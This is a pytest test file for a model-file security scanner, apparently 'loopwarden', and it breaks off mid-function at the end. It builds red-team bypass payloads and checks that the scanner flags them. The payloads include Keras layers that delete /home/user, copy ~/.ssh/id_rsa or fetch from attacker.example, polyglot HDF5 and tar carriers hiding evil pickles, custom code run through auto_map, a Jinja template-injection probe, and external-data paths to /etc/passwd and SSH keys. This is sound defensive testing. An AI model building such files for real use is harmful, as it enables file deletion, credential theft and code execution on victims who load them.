"""Bypasses of the non-pickle formats found by an internal red-team pass (containers, Keras, ONNX, GGUF ...).

Each case is built as bytes here and only scanned, never loaded; what the loader does with it is said in the
docstring (checked against the loader's source when the case was found). Every class has its benign counterparts.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import _container_payloads as cp
import pytest
from test_container_bypasses import assert_caught
from test_container_bypasses import scan as scan_files

from loopwarden.checks.models.scanner import scan_paths
from loopwarden.domain import Severity, Verdict

# ------------------------------------------------------------------------------ Keras: functions built as layers


def _functional(*layers: dict[str, object]) -> dict[str, object]:
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "inp"},
        "registered_name": None,
        "name": "inp",
        "inbound_nodes": [],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "m",
            "trainable": True,
            "layers": [inp, *layers],
            "input_layers": [["inp", 0, 0]],
            "output_layers": [["inp", 0, 0]],
        },
    }


def _function_layer(module: str, name: str, *args: object) -> dict[str, object]:
    return {
        "module": module,
        "class_name": name,
        "config": {},
        "registered_name": None,
        "name": "boom",
        "inbound_nodes": [{"args": list(args), "kwargs": {}}],
    }


@pytest.mark.parametrize(
    ("module", "name", "args"),
    [
        ("keras.src.utils.file_utils", "rmtree", ("/home/user",)),
        ("keras.src.utils.file_utils", "remove", ("/home/user/.bashrc",)),
        ("keras.src.utils.file_utils", "copy", ("/home/user/.ssh/id_rsa", "/srv/www/key")),
        ("keras.src.utils.file_utils", "urlretrieve", ("http://attacker.example/x", "/home/user/.bashrc")),
        ("keras.src.utils.file_utils", "File", ("/home/user/.bashrc", "w")),
        ("keras.src.utils.file_utils", "extract_archive", ("/tmp/x.tar", "/home/user")),
        ("keras.src.utils.image_utils", "save_img", ("/home/user/.bashrc", [[[0, 0, 0]]])),
        ("keras.utils", "plot_model", ()),
        ("keras_hub.src.utils.preset_utils", "load_serialized_object", ("x",)),
    ],
)
def test_keras_function_built_as_a_functional_layer(
    tmp_path: Path, module: str, name: str, args: tuple[object, ...]
) -> None:
    """Keras 3.0-3.10 resolve a layer's class_name in any keras module and return a plain function as it is;
    the Functional model then calls that "layer" with the node's arguments, safe mode or not (Keras 3.11 added
    the check that a layer is an Operation). With file_utils.rmtree a loaded model deletes a folder: checked with
    Keras 3.8.0 (torch backend), whose load_model removed the folder named in the node."""
    res = scan_files(
        tmp_path, {"model.keras": cp.keras_zip(_functional(_function_layer(module, name, *args)))}
    )
    assert_caught(res, "LW-MODEL-033")


def test_keras_torch_module_wrapper_is_named_whatever_its_payload_looks_like(tmp_path: Path) -> None:
    """TorchModuleWrapper.from_config torch.loads its config's "module" (CVE-2025-49655): reported by the class,
    not by the base64 text happening to look like a module path (non-validating base64 ignores the dot of a
    "keras.<base64>" string)."""
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"name": "t", "module": "keras.gASVAAAA"},
    }
    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(_functional(layer))})
    assert_caught(res, "LW-MODEL-033")


def test_keras_ordinary_functional_model_stays_clean(tmp_path: Path) -> None:
    """What Keras 3.8 writes for a Functional model with a keras.ops call, initializers and a regularizer: class
    names are classes (and the markers Keras handles itself), so nothing is reported."""
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "units": 4,
            "activation": "gelu",
            "kernel_initializer": {
                "module": "keras.initializers",
                "class_name": "GlorotUniform",
                "config": {},
            },
            "kernel_regularizer": {
                "module": "keras.regularizers",
                "class_name": "L2",
                "config": {"l2": 0.01},
            },
            "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}},
        },
        "registered_name": None,
        "name": "dense",
        "inbound_nodes": [
            {
                "args": [
                    {
                        "class_name": "__keras_tensor__",
                        "config": {"shape": [None, 2], "dtype": "float32", "keras_history": ["inp", 0, 0]},
                    }
                ],
                "kwargs": {},
            }
        ],
    }
    add = {
        "module": "keras.src.ops.numpy",
        "class_name": "Add",
        "config": {"name": "add"},
        "registered_name": "Add",
        "name": "add",
        "inbound_nodes": [],
    }
    loss = {"module": "keras.losses", "class_name": "function", "config": "mean_squared_error"}
    cfg = _functional(dense, add)
    cfg["compile_config"] = {"loss": loss, "optimizer": {"module": "keras.optimizers", "class_name": "AdamW"}}
    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(cfg)})
    assert res[0].verdict is Verdict.CLEAN, res[0]


def _compiled_with(loss: dict[str, object]) -> dict[str, object]:
    cfg = _functional()
    cfg["compile_config"] = {"loss": loss, "metrics": None, "run_eagerly": False}
    return cfg


@pytest.mark.parametrize("name", ["eval", "exec", "open", "__import__", "breakpoint", "utils.get_file"])
def test_keras_builtins_function_naming_a_python_builtin(tmp_path: Path, name: str) -> None:
    """{"module": "builtins", "class_name": "function"}: Keras before 3.9 falls back to vars(builtins)[name]."""
    loss = {"module": "builtins", "class_name": "function", "config": name, "registered_name": "function"}
    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(_compiled_with(loss))})
    assert_caught(res, "LW-MODEL-033")


@pytest.mark.parametrize("name", ["mean_squared_error", "sparse_categorical_crossentropy", "relu", "gelu"])
def test_keras_builtins_function_of_keras_itself_stays_clean(tmp_path: Path, name: str) -> None:
    """Keras 3 writes a loss, metric or activation passed as a function object with the module "builtins"
    (model.compile(loss=keras.losses.mean_squared_error) saved by Keras 3.8) and resolves it in its own modules."""
    loss = {"module": "builtins", "class_name": "function", "config": name, "registered_name": "function"}
    res = scan_files(tmp_path, {"model.keras": cp.keras_zip(_compiled_with(loss))})
    assert res[0].verdict is Verdict.CLEAN, res[0]


# ------------------------------------------------------------------------------- tar: what follows its end


def _tar(files: dict[str, bytes]) -> bytes:
    return cp.tar_of(files, mode="w:")


def _evil_keras() -> bytes:
    return cp.keras_zip(_functional(_function_layer("keras.src.utils.file_utils", "rmtree", "/home/user")))


@pytest.mark.parametrize(
    ("name", "payload", "rule"),
    [
        ("model.keras", "keras-function-layer", "LW-MODEL-033"),
        ("model.keras", "keras-lambda", "LW-MODEL-032"),
        ("model.skops", "npz-object-array", "LW-MODEL-001"),
        ("model.keras", "keras-lambda-deflate-in-tar-gz", "LW-MODEL-032"),
    ],
)
def test_zip_appended_to_a_tar(tmp_path: Path, name: str, payload: str, rule: str) -> None:
    """A tar followed by a zip: zipfile finds the zip's end record at the end of the file and opens it whatever
    comes before (Keras' load_model checks zipfile.is_zipfile on a .keras file: Keras 3.8 loaded such a file and
    ran the function layer's rmtree), while the tar reading stops at the tar's end-of-archive blocks."""
    if payload == "keras-function-layer":
        z = _evil_keras()
    elif payload.startswith("keras-lambda"):
        z = cp.keras_zip(cp.keras_lambda_config())
    else:
        z = cp.zip_of({"w.npy": cp.npy_object(cp.evil_pickle())})
    data = _tar({"README.md": b"# model\n", "weights.bin": b"\0" * 64}) + z
    if payload.endswith("tar-gz"):
        data = cp.compress("gzip", data)
    res = scan_files(tmp_path, {name: data})
    assert_caught(res, rule)


def test_data_hidden_after_the_end_of_a_tar(tmp_path: Path) -> None:
    """A second tar after the first one's zero blocks: tarfile stops at the first zero block, readers that skip
    zero blocks (tar --ignore-zeros) extract the hidden member; such bytes are reported."""
    data = _tar({"README.md": b"# model\n"}) + _tar({"model.pkl": cp.evil_pickle()})
    res = scan_files(tmp_path, {"model.tar": data})
    assert_caught(res, "LW-MODEL-024", at_least=Severity.MEDIUM)


@pytest.mark.parametrize("last", ["zip-member", "pickle-member", "only-text"])
def test_ordinary_tars_stay_clean(tmp_path: Path, last: str) -> None:
    """Tars as tar and tarfile write them (zero blocks to the record size), including one whose last member is a
    zip (its end record is inside the member, which is analysed as a member)."""
    files = {"README.md": b"# model\n"}
    if last == "zip-member":
        files["extra.zip"] = cp.zip_of({"a.txt": b"hello"})
    elif last == "pickle-member":
        files["model.pkl"] = cp.benign_pickle()
    for mode in ("w:", "w:gz"):
        res = scan_files(tmp_path, {"model.tar": cp.tar_of(files, mode=mode)})
        assert res[0].verdict is Verdict.CLEAN, res[0]


# ----------------------------------------------------------------- HDF5 after a user block (polyglot carriers)


def _hdf5(config: dict[str, object], userblock: int, tmp_path: Path) -> bytes:
    h5py = pytest.importorskip("h5py")
    path = tmp_path / "built.h5"
    with h5py.File(path, "w", userblock_size=userblock) as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
    data = path.read_bytes()
    path.unlink()
    return data


def _carrier(kind: str, h5: bytes, at: int) -> bytes:
    """``h5`` (built with a user block of ``at`` bytes) with its user block replaced by another format's head
    whose data runs over the HDF5 bytes."""
    body = len(h5) - at
    if kind == "png":
        head = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    elif kind == "safetensors":
        hdr = {"w": {"dtype": "U8", "shape": [body], "data_offsets": [0, body]}}
        head = struct.pack("<Q", at - 8) + json.dumps(hdr).encode().ljust(at - 8, b" ")
    elif kind == "npy":
        d = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({body},), }}"
        head = b"\x93NUMPY\x01\x00" + struct.pack("<H", at - 10) + d.encode().ljust(at - 11, b" ") + b"\n"
    elif kind == "gguf":
        head = cp.gguf_file(None)
    else:
        raise AssertionError(kind)
    assert len(head) <= at
    return head + h5[len(head) :]


@pytest.mark.parametrize("kind", ["png", "safetensors", "npy", "gguf"])
@pytest.mark.parametrize("at", [512, 2048])
def test_hdf5_after_another_formats_head(tmp_path: Path, kind: str, at: int) -> None:
    """The HDF5 library finds a superblock at offset 0 or at any power of two from 512 (a user block before it),
    so a file that opens as a PNG, safetensors, .npy or GGUF file can be an HDF5 model too: Keras' load_model of a
    .h5 path opens it with h5py.File and builds its model_config (the Lambda runs in legacy HDF5 loading,
    CVE-2025-9905). Checked: h5py opens each carrier and reads the Lambda config."""
    data = _carrier(kind, _hdf5(cp.keras_lambda_config(), at, tmp_path), at)
    res = scan_files(tmp_path, {"model.h5": data})
    assert_caught(res, "LW-MODEL-032")
    assert "LW-MODEL-029" in {f.rule_id for f in res[0].findings}


def test_hdf5_with_a_blank_user_block_is_analysed(tmp_path: Path) -> None:
    """h5py.File(userblock_size=...) writes zeros before the superblock: that is an HDF5 file, analysed as one
    (it was unverified as an unknown binary), a benign model clean, a Lambda reported, no disguise."""
    benign = {"class_name": "Sequential", "config": {"name": "s", "layers": []}}
    res = scan_files(tmp_path, {"benign.h5": _hdf5(benign, 1024, tmp_path)})
    assert res[0].verdict is Verdict.CLEAN, res[0]
    res = scan_files(tmp_path, {"lambda.h5": _hdf5(cp.keras_lambda_config(), 1024, tmp_path)})
    assert_caught(res, "LW-MODEL-032")
    assert "LW-MODEL-029" not in {f.rule_id for f in res[0].findings}


@pytest.mark.parametrize("kind", ["png", "safetensors", "npy", "gguf"])
def test_carriers_without_an_hdf5_stay_clean(tmp_path: Path, kind: str) -> None:
    """The same heads over ordinary bytes (with "HDF" text off the power-of-two offsets) stay clean."""
    filler = (b"\x89HDF\r\n\x1a\n" + bytes(range(256))) * 40
    res = scan_files(tmp_path, {f"x.{kind}": _carrier(kind, b"\0" * 512 + filler[7:], 512)})
    assert res[0].verdict is Verdict.CLEAN, res[0]


# --------------------------------------------------------------------- a tar header under another format's head


def _legacy_torch_tar(first_name: str = "x") -> bytes:
    """torch.save's oldest format: a tar whose storages/pickle/tensors members torch.load unpickles."""
    members = [(first_name, b"")] + [(n, cp.evil_pickle()) for n in ("storages", "pickle", "tensors")]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _with_checksum(block: bytearray) -> bytes:
    block[148:156] = b" " * 8
    block[148:156] = b"%07o " % sum(block)
    return bytes(block)


def _tar_under(kind: str) -> bytes:
    """A legacy torch tar whose first header block also opens as ``kind``."""
    tar = _legacy_torch_tar()
    rest = tar[512:]
    block = bytearray(tar[:512])
    if kind == "safetensors":
        # the header JSON spans the whole first block; tar's numeric fields are space-terminated octal inside it
        block = bytearray(b" " * 512)
        n = len(rest)
        head = b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]},"__metadata__":{"k":"' % (n, n)
        block[0:8] = struct.pack("<Q", 504)
        block[8 : 8 + len(head)] = head
        for start, field in ((100, b"0000644 "), (108, b"0000000 "), (116, b"0000000 ")):
            block[start : start + 8] = field
        block[124:136] = block[136:148] = b"00000000000 "
        block[156:157] = b"0"
        block[509:512] = b'"}}'
    else:
        head = {
            "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
            "gif": b"GIF89a\x01\x00\x01\x00",
            "pickle-proto": b"\x80\x02K\x01.",
            "npy": b"\x93NUMPY\x01\x00v\x00{'descr': '<f4'",
            "bzip2": b"BZh91AY&SY",
        }[kind]
        block[: len(head)] = head
    return _with_checksum(block) + rest


@pytest.mark.parametrize("kind", ["png", "gif", "safetensors", "pickle-proto", "npy", "bzip2"])
def test_tar_whose_first_block_opens_as_another_format(tmp_path: Path, kind: str) -> None:
    """tarfile accepts any first block whose checksum matches, and torch.load (weights_only=False) of a file that
    is not a zip tries the legacy tar format first and unpickles its storages/pickle/tensors members: checked with
    torch 2.13, which ran the payload of the PNG carrier. The safetensors carrier also loads with safetensors."""
    res = scan_files(tmp_path, {"pytorch_model.bin": _tar_under(kind)})
    assert_caught(res, "LW-MODEL-001")
    assert "LW-MODEL-029" in {f.rule_id for f in res[0].findings}


def test_tar_header_agrees_with_tarfile() -> None:
    """tar_header says yes exactly when tarfile's own header parser accepts the checksum: real headers of every
    tar format, signed-sum headers, base-256 checksums, and blocks damaged one byte at a time."""
    from loopwarden.checks.models.detect import tar_header

    def accepted(block: bytes) -> bool:
        try:
            tarfile.TarInfo.frombuf(block, "utf-8", "surrogateescape")
        except tarfile.HeaderError:
            return False
        return True

    blocks = []
    for fmt in (tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:", format=fmt) as t:
            info = tarfile.TarInfo("model/w\u00e9ights.bin")
            info.size = 3
            t.addfile(info, io.BytesIO(b"abc"))
        blocks.append(buf.getvalue()[:512])
    high = bytearray(blocks[0])
    high[0:4] = b"\xff\xfe\xfd\xfc"
    signed = 256 + sum((b - 256 if b > 127 else b) for b in high[:148] + high[156:512])
    high[148:156] = b"%07o " % signed
    blocks.append(bytes(high))
    b256 = bytearray(blocks[0])
    b256[148:156] = b"\x80" + (256 + sum(b256[:148]) + sum(b256[156:512])).to_bytes(7, "big")
    blocks.append(bytes(b256))
    for block in blocks:
        assert tar_header(block) and accepted(block)
        for i in range(0, 512, 7):
            damaged = bytearray(block)
            damaged[i] ^= 0x41
            assert tar_header(bytes(damaged)) == accepted(bytes(damaged)), i
    for other in (b"\0" * 512, b" " * 512, b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2):
        assert not tar_header(other[:512])


# ----------------------------------------------------------------------------- lzma "alone" with a small dictionary


def _lzma_alone(data: bytes, dict_size: int) -> bytes:
    import lzma

    return lzma.compress(
        data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": dict_size}]
    )


@pytest.mark.parametrize("dict_size", [4096, 6144, 8192, 1 << 16, 3 << 15, 1 << 23])
def test_lzma_alone_is_decompressed_whatever_its_dictionary_size(tmp_path: Path, dict_size: int) -> None:
    """joblib takes "]\\x00" as the lzma magic and liblzma accepts any 2^n or 3*2^(n-1) dictionary; one under
    64 KiB puts a non-zero byte in the header's third byte (joblib.load of the 4 KiB one ran the payload), which
    was read as a broken pickle (unverified) instead of decompressed and analysed."""
    res = scan_files(tmp_path, {"model.joblib": _lzma_alone(cp.evil_pickle(), dict_size)})
    assert_caught(res, "LW-MODEL-001")
    res = scan_files(tmp_path, {"benign.joblib": _lzma_alone(cp.benign_pickle(), dict_size)})
    assert res[0].verdict is Verdict.CLEAN, res[0]


# --------------------------------------------------------------------- transformers custom code (auto_map)


@pytest.mark.parametrize(
    ("name", "config", "severity"),
    [
        (
            "config.json",
            {"model_type": "evil", "auto_map": {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}},
            Severity.MEDIUM,
        ),
        (
            "config.json",
            {"auto_map": {"AutoModel": "attacker/code--modeling_evil.EvilModel"}},
            Severity.HIGH,
        ),
        (
            "tokenizer_config.json",
            {"auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}},
            Severity.MEDIUM,
        ),
        (
            "config.json",
            {"custom_pipelines": {"text-generation": {"impl": "pipeline_evil.EvilPipeline", "pt": []}}},
            Severity.MEDIUM,
        ),
        (
            "preprocessor_config.json",
            {"auto_map": {"AutoImageProcessor": "attacker/code--processing_evil.EvilProcessor"}},
            Severity.HIGH,
        ),
    ],
)
def test_transformers_custom_code_is_reported(
    tmp_path: Path, name: str, config: dict[str, object], severity: Severity
) -> None:
    """transformers imports the auto_map classes from <module>.py beside the config ("org/repo--module.Class":
    from another repository) and runs them under trust_remote_code=True: code loopwarden does not analyse, so the
    folder is not clean (the .py file itself, os.system and all, was the only other thing scanned)."""
    files = {name: json.dumps(config).encode(), "modeling_evil.py": b'import os\nos.system("id")\n'}
    res = scan_files(tmp_path, files)
    t = next(r for r in res if r.path.endswith(name))
    assert_caught([t], "LW-MODEL-042", at_least=severity)
    assert t.max_severity() is severity


def test_transformers_configs_without_custom_code_stay_clean(tmp_path: Path) -> None:
    """What transformers writes for its own architectures: no auto_map, nothing reported."""
    config = {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "hidden_act": "silu",
        "torch_dtype": "bfloat16",
        "transformers_version": "4.46.0",
    }
    tok = {"tokenizer_class": "LlamaTokenizerFast", "model_max_length": 4096, "auto_map": None}
    res = scan_files(
        tmp_path,
        {"config.json": json.dumps(config).encode(), "tokenizer_config.json": json.dumps(tok).encode()},
    )
    assert all(r.verdict is Verdict.CLEAN for r in res), res


_DDPM_INDEX = {
    "_class_name": "DDPMPipeline",
    "_diffusers_version": "0.42.1",
    "scheduler": ["diffusers", "DDPMScheduler"],
    "unet": ["diffusers", "UNet2DModel"],
}


@pytest.mark.parametrize(
    ("index", "files", "expected"),
    [
        ({**_DDPM_INDEX, "_class_name": ["pipeline_evil", "EvilPipeline"]}, {"pipeline_evil.py": b"x"}, 1),
        ({**_DDPM_INDEX, "unet": ["my_unet", "MyUNet"]}, {"unet/my_unet.py": b"x"}, 1),
        (
            {**_DDPM_INDEX, "_class_name": ["p", "P"], "text_encoder": ["encoder_mod", "Enc"]},
            {"p.py": b"x", "text_encoder/encoder_mod.py": b"x"},
            2,
        ),
    ],
)
def test_diffusers_custom_code_is_reported(
    tmp_path: Path, index: dict[str, object], files: dict[str, bytes], expected: int
) -> None:
    """DiffusionPipeline.from_pretrained imports a [module, class] _class_name from <module>.py and a component
    whose <component>/<module>.py exists, and runs them: for a local folder with no opt-in before diffusers 0.38
    (round 19: confirmed with 0.35.2 to 0.37.1, so high, no longer medium), under trust_remote_code=True since."""
    res = scan_files(tmp_path, {"model_index.json": json.dumps(index).encode(), **files})
    t = next(r for r in res if r.path.endswith("model_index.json"))
    assert len([f for f in t.findings if f.rule_id == "LW-MODEL-042"]) == expected, t.findings
    assert t.max_severity() is Severity.HIGH


def test_diffusers_pipelines_of_the_library_stay_clean(tmp_path: Path) -> None:
    """Components from diffusers, transformers or a diffusers pipelines module (the safety checker), and empty
    slots: what diffusers writes for its own pipelines."""
    index = {
        **_DDPM_INDEX,
        "_class_name": "StableDiffusionPipeline",
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "feature_extractor": [None, None],
    }
    res = scan_files(tmp_path, {"model_index.json": json.dumps(index).encode()})
    assert all(r.verdict is Verdict.CLEAN for r in res), res


# ----------------------------------------------------------------------- ONNX: function attribute defaults


def test_onnx_external_data_in_a_function_attribute_default(tmp_path: Path) -> None:
    """FunctionProto.attribute_proto (field 11) holds the default value of a function's attributes, a tensor
    among them; a default tensor with external data outside the folder is reported like any other."""
    f = cp._field
    tensor = f(8, b"W") + f(13, f(1, b"location") + f(2, b"../../../etc/passwd")) + bytes([14 << 3, 1])
    attr = f(1, b"value") + f(5, tensor) + cp._varint(20 << 3) + cp._varint(4)
    function = f(1, b"fn") + f(10, b"local") + f(11, attr)
    base = cp.onnx_model()
    res = scan_files(tmp_path, {"model.onnx": base + f(25, function)})
    assert_caught(res, "LW-MODEL-035")
    clean = (
        f(1, b"fn")
        + f(10, b"local")
        + f(11, f(1, b"value") + f(5, f(8, b"W")) + cp._varint(20 << 3) + cp._varint(4))
    )
    res = scan_files(tmp_path, {"clean.onnx": base + f(25, clean)})
    assert res[0].verdict is Verdict.CLEAN, res[0]


# ------------------------------------------------------------------------------ HDF5 data from other files


def _keras_h5_weights(f: Any) -> Any:
    """A Keras .h5 file's model config and the weight group of one layer."""
    f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": []}})
    return f.create_group("model_weights/dense")


@pytest.mark.parametrize("kind", ["external-absolute", "external-relative", "virtual", "external-link"])
def test_hdf5_weights_read_from_other_files(tmp_path: Path, kind: str) -> None:
    """Weights whose bytes live elsewhere: reading the dataset (Keras' load_weights does) reads that file into the
    model; h5py read /etc/hostname through the external-storage case when it was built."""
    h5py = pytest.importorskip("h5py")
    import numpy as np

    path = tmp_path / "model.h5"
    with h5py.File(path, "w") as f:
        g = _keras_h5_weights(f)
        if kind == "external-absolute":
            g.create_dataset("kernel", shape=(16,), dtype="u1", external=[("/etc/hostname", 0, 16)])
        elif kind == "external-relative":
            g.create_dataset("kernel", shape=(16,), dtype="u1", external=[("../.ssh/id_rsa", 0, 16)])
        elif kind == "virtual":
            layout = h5py.VirtualLayout(shape=(4,), dtype="u1")
            layout[:] = h5py.VirtualSource("../secret.h5", "data", shape=(4,))
            g.create_virtual_dataset("kernel", layout)
        else:
            g.create_dataset("bias", data=np.zeros(4, dtype="f4"))
            g["kernel"] = h5py.ExternalLink("/home/user/other.h5", "/")
    res = list(scan_paths([str(path)], jobs=1).targets)
    assert_caught(res, "LW-MODEL-045")


def test_hdf5_weights_in_the_file_stay_clean(tmp_path: Path) -> None:
    """Weights stored in the file itself (contiguous, chunked, compressed), soft links and a virtual dataset over
    the file itself are not reported."""
    h5py = pytest.importorskip("h5py")
    import numpy as np

    path = tmp_path / "model.h5"
    with h5py.File(path, "w") as f:
        g = _keras_h5_weights(f)
        g.create_dataset("kernel", data=np.ones((4, 4), dtype="f4"))
        g.create_dataset("bias", data=np.zeros(4, dtype="f4"), chunks=(2,), compression="gzip")
        g["alias"] = h5py.SoftLink("/model_weights/dense/kernel")
        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
        layout[:] = h5py.VirtualSource(".", "model_weights/dense/bias", shape=(4,))
        g.create_virtual_dataset("view", layout)
    res = list(scan_paths([str(path)], jobs=1).targets)
    assert res[0].verdict is Verdict.CLEAN, res[0]


# --------------------------------------------------------------------- names a loader opens: links and the HF cache

_NAMED_PAYLOADS: dict[str, tuple[bytes, str]] = {
    "chat_template.jinja": (b"{{ ''.__class__.__mro__[1].__subclasses__() }}", "LW-MODEL-040"),
    "config.yaml": (b"model:\n  _target_: os.system\n  command: id\n", "LW-MODEL-042"),
    "config.json": (b'{"auto_map": {"AutoModel": "attacker/code--modeling_x.X"}}', "LW-MODEL-042"),
}


def _hf_cache(root: Path, files: dict[str, bytes]) -> Path:
    """A Hugging Face hub cache: snapshots/<rev>/<name> are links to blobs/<hash>, as huggingface_hub makes."""
    import hashlib

    repo = root / "models--org--name"
    snap = repo / "snapshots" / "0123abcd"
    (repo / "blobs").mkdir(parents=True)
    snap.mkdir(parents=True)
    (repo / "refs").mkdir()
    (repo / "refs" / "main").write_text("0123abcd")
    for name, data in files.items():
        digest = hashlib.sha256(data).hexdigest()
        (repo / "blobs" / digest).write_bytes(data)
        (snap / name).symlink_to(Path("../../blobs") / digest)
    return repo


@pytest.mark.parametrize("name", sorted(_NAMED_PAYLOADS))
def test_hf_cache_files_are_judged_by_their_snapshot_name(tmp_path: Path, name: str) -> None:
    """In the hub cache every file is blobs/<sha256> and its name is only the snapshot link's: the analyses that
    depend on the name (a .jinja template, a YAML config, transformers' config.json) ran on the hash and found
    nothing, while the same folder copied out of the cache was caught."""
    data, rule = _NAMED_PAYLOADS[name]
    repo = _hf_cache(tmp_path, {name: data, "README.md": b"# model\n"})
    res = [r for r in scan_paths([str(repo)], jobs=1).targets if r.path.endswith(name)]
    assert len(res) == 1, res
    assert_caught(res, rule, at_least=Severity.MEDIUM)


@pytest.mark.parametrize("name", sorted(_NAMED_PAYLOADS))
def test_file_linked_under_a_loader_name_is_judged_under_it(tmp_path: Path, name: str) -> None:
    """A link in the folder (git keeps symlinks) gives a file a second name: the file is scanned once, as its
    first name in the walk (here a.txt), and must be judged under the name a loader opens too."""
    data, rule = _NAMED_PAYLOADS[name]
    (tmp_path / "a.txt").write_bytes(data)
    (tmp_path / name).symlink_to("a.txt")
    res = list(scan_paths([str(tmp_path)], jobs=1).targets)
    assert len(res) == 1, res
    assert_caught(res, rule, at_least=Severity.MEDIUM)


def test_hf_cache_with_benign_files_stays_clean(tmp_path: Path) -> None:
    """Ordinary cache content: a template, a Hydra config with a known target, a config without custom code."""
    repo = _hf_cache(
        tmp_path,
        {
            "chat_template.jinja": b"{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
            "config.yaml": b"optim:\n  _target_: torch.optim.AdamW\n  lr: 0.001\n",
            "config.json": b'{"model_type": "llama", "architectures": ["LlamaForCausalLM"]}',
            "model.safetensors": cp.safetensors_file(
                {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4
            ),
        },
    )
    res = list(scan_paths([str(repo)], jobs=1).targets)
    assert {Path(r.path).name for r in res} == {
        "main",
        "chat_template.jinja",
        "config.yaml",
        "config.json",
        "model.safetensors",
    }
    assert all(r.verdict is Verdict.CLEAN for r in res), res


def test_hf_cache_onnx_external_data_resolves_beside_the_snapshot(tmp_path: Path) -> None:
    """onnx.load and onnxruntime join a location to the folder of the path they are given: in the hub cache that
    is the snapshot folder, whose weights.bin links into blobs/. It was resolved beside blobs/<hash> instead, so
    the weights were an unknown binary (unverified); a snapshot link that leaves the cache is still reported."""
    weights = bytes(range(256)) * 4
    repo = _hf_cache(tmp_path, {"model.onnx": cp.onnx_model("weights.bin"), "weights.bin": weights})
    res = list(scan_paths([str(repo / "snapshots")], jobs=1).targets)
    assert all(r.verdict is Verdict.CLEAN for r in res), res
    outside = tmp_path / "outside.bin"
    outside.write_bytes(weights)
    bad = tmp_path / "bad"
    bad_repo = _hf_cache(bad, {"model.onnx": cp.onnx_model("secret.bin")})
    (bad_repo / "snapshots" / "0123abcd" / "secret.bin").symlink_to(outside)
    res = [r for r in scan_paths([str(bad_repo)], jobs=1).targets if r.path.endswith("model.onnx")]
    assert_caught(res, "LW-MODEL-035")


def _tar_with_link(files: dict[str, bytes], link: str, target: str, *, hard: bool) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:") as t:
        for n, d in files.items():
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
        info = tarfile.TarInfo(link)
        info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
        info.linkname = target
        t.addfile(info)
    return buf.getvalue()


@pytest.mark.parametrize("hard", [False, True])
@pytest.mark.parametrize("name", sorted(_NAMED_PAYLOADS))
def test_tar_link_gives_a_member_a_loader_name(tmp_path: Path, name: str, hard: bool) -> None:
    """A .nemo-style tar whose model_config.yaml (or template, or config.json) is a link to an innocently named
    member: extracted (tarfile's data filter keeps links inside the folder), the loader opens the link's name,
    so the target's bytes are judged under it; only the LOW link note was reported."""
    data, rule = _NAMED_PAYLOADS[name]
    files = {"notes/a.txt": data, "model_weights.ckpt": cp.benign_pickle()}
    target = "notes/a.txt" if hard else "../notes/a.txt"
    link = f"cfg/{name}"
    res = scan_files(tmp_path, {"model.nemo": _tar_with_link(files, link, target, hard=hard)})
    assert_caught(res, rule, at_least=Severity.MEDIUM)


def test_tar_link_chain_is_followed_and_benign_links_stay_low(tmp_path: Path) -> None:
    data, _ = _NAMED_PAYLOADS["config.yaml"]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:") as t:
        info = tarfile.TarInfo("a.txt")
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
        for n, target in (("b.txt", "a.txt"), ("config.yaml", "b.txt")):
            link = tarfile.TarInfo(n)
            link.type = tarfile.SYMTYPE
            link.linkname = target
            t.addfile(link)
    assert_caught(scan_files(tmp_path, {"chain.tar": buf.getvalue()}), "LW-MODEL-042")
    benign = _tar_with_link({"a.txt": b"lr: 0.1\n"}, "config.yaml", "a.txt", hard=False)
    res = scan_files(tmp_path, {"benign.tar": benign})
    assert res[0].max_severity() is Severity.LOW, res[0]


# ---------------------------------------------------------------------------- fiddle: NeMo 2 context/io.json


def _pyref(module: str, name: str) -> dict[str, object]:
    return {"type": "pyref", "module": module, "name": name}


def _fiddle_doc(fn_module: str, fn_name: str, arg: object = "id") -> bytes:
    """fiddle's dump_json layout for fdl.Config(dict, x=fdl.Config(<fn>, <arg>)), as fiddle 0.3.1 writes it."""
    cfg = _pyref("fiddle._src.config", "Config")
    meta = _pyref("fiddle._src.config", "BuildableTraverserMetadata")
    tup, dct = _pyref("builtins", "tuple"), _pyref("builtins", "dict")
